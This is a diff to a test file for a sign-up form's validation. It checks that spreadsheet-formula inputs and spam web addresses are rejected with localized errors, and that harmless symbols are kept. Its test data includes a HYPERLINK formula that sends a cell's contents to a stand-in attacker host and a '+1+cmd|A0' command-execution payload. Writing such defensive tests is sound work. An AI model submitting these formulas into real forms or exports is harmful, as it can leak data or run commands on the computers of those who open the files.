@@ -17,6 +17,9 @@ afterAll(async () => {
 /** The error shown next to a field on the page after the redirect. */
 const fieldError = (html: string, field: string) => parse(html).querySelector(`#sign-${field}-error`)?.text;
 
+const formula = 'This cannot start with =, +, - or @: spreadsheets run such text as a formula. Please begin with a word or a number.';
+const webAddress = 'Please leave out web addresses, such as example.org or www.example.org: give your website in its own field.';
+
 describe('a sign-up with a bad field', () => {
   const cases: { label: string; change: Record<string, string>; field: string; message: string }[] = [
     { label: 'a missing organization name', change: { organization: '' }, field: 'organization', message: 'Fill in this field.' },
@@ -32,6 +35,13 @@ describe('a sign-up with a bad field', () => {
     { label: 'an unknown country', change: { country: 'XX' }, field: 'country', message: 'Choose one of the options.' },
     { label: 'an unknown organization type', change: { orgType: 'government' }, field: 'orgType', message: 'Choose one of the options.' },
     { label: 'an unknown listing', change: { listing: 'hidden' }, field: 'listing', message: 'Choose one of the options.' },
+    { label: 'a statement a spreadsheet would run, across two lines', change: { statement: '=HYPERLINK("https://evil.example/?"&A2,\n"Open")' }, field: 'statement', message: formula },
+    { label: 'a name a spreadsheet would run', change: { organization: '@SUM(1+1) Media' }, field: 'organization', message: formula },
+    { label: 'a contact name a spreadsheet would run', change: { contactName: '+1+cmd|A0' }, field: 'contactName', message: formula },
+    { label: 'a contact role a spreadsheet would run', change: { contactRole: '-Director' }, field: 'contactRole', message: formula },
+    { label: 'a link in the name', change: { organization: 'Great deals at evil.example/offer' }, field: 'organization', message: webAddress },
+    { label: 'a web address in the name', change: { organization: 'Cheap pills www.pills.example' }, field: 'organization', message: webAddress },
+    { label: 'a domain in the name', change: { organization: 'Cheap pills at pills.com' }, field: 'organization', message: webAddress },
   ];
 
   it.each(cases)('($label) shows the error next to the field, keeps what was typed and writes nothing', async ({ change, field, message }) => {
@@ -57,6 +67,20 @@ describe('a sign-up with a bad field', () => {
   it('shows its errors in the page’s language', async () => {
     const result = await sign(server, signUp({ organization: '' }), '/ru');
     expect(fieldError(result.html, 'organization')).toBe('Заполните это поле.');
+    const ru = await sign(server, signUp({ organization: 'Скидки на pills.com', statement: '=1+1\nи ещё' }), '/ru');
+    expect(fieldError(ru.html, 'organization')).toMatch(/^Пожалуйста, уберите веб-адреса/);
+    expect(fieldError(ru.html, 'statement')).toMatch(/^Текст не может начинаться с =, \+, - или @/);
+    const kk = await sign(server, signUp({ organization: 'http://pills.example', statement: '@SUM(1)' }), '/kk');
+    expect(fieldError(kk.html, 'organization')).toMatch(/^Веб-мекенжайларды/);
+    expect(fieldError(kk.html, 'statement')).toMatch(/^Мәтін =, \+, - немесе @ таңбасынан басталмауы керек/);
+  });
+
+  it('keeps =, +, - and @ anywhere but at the start, and dots that make no address', async () => {
+    const before = writeCounts(server.databasePath);
+    const fields = signUp({ organization: 'St.Petersburg Centre No.1 - Almaty', statement: 'Access = life.\n-- and +1 from us @ home', contactRole: 'Director - Almaty' });
+    const result = await sign(server, fields);
+    expect(parse(result.html).querySelector('.error-summary')).toBeNull();
+    expect(writeCounts(server.databasePath).signatures).toBe(before.signatures! + 1);
   });
 });
 
